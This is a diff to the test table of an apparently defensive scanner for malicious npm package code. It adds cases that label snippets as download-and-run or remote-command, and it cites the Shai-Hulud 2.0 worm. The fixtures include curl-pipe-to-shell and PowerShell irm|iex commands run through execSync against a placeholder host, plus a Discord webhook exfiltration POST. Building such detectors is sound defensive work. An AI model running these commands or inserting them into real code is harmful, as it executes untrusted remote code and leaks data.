@@ -120,6 +120,10 @@ test('code shapes one by one, and the idioms bundlers use that are not payloads'
     ['const p = require("os").tmpdir() + "/x"; fs.writeFileSync(p, b); require("child_process").spawn(require("os").tmpdir() + "/x")', ['writes-outside-package']],
     ['fetch("https://discord.com/api/webhooks/1/abc", { method: "POST", body })', ['exfiltration-endpoint']],
     ['var g = Function("return this")(); var r = eval("require");', []],
+    // bun's installer prints this as advice in an error; Shai-Hulud 2.0 runs it
+    ['let installScript = os === "win32" ? \'powershell -c "irm bun.sh/install.ps1 | iex"\' : "curl -fsSL https://bun.com/install | bash"; throw new Error(`install with ${installScript}`)', []],
+    ['let command = "curl -fsSL https://bun.sh/install | bash"; require("child_process").execSync(command, { stdio: "ignore" })', ['download-and-run']],
+    ['require("child_process").execSync("curl -fsSL https://x.example.net/i | sh")', ['download-and-run', 'remote-command']],
     ['fs.writeFileSync(path.join(__dirname, "lib", "binding.node"), bytes)', []],
     ['const s = Buffer.from("aGVsbG8gd29ybGQ=", "base64").toString()', []],
     ['child_process.execFileSync(binPath, ["--version"])', []],
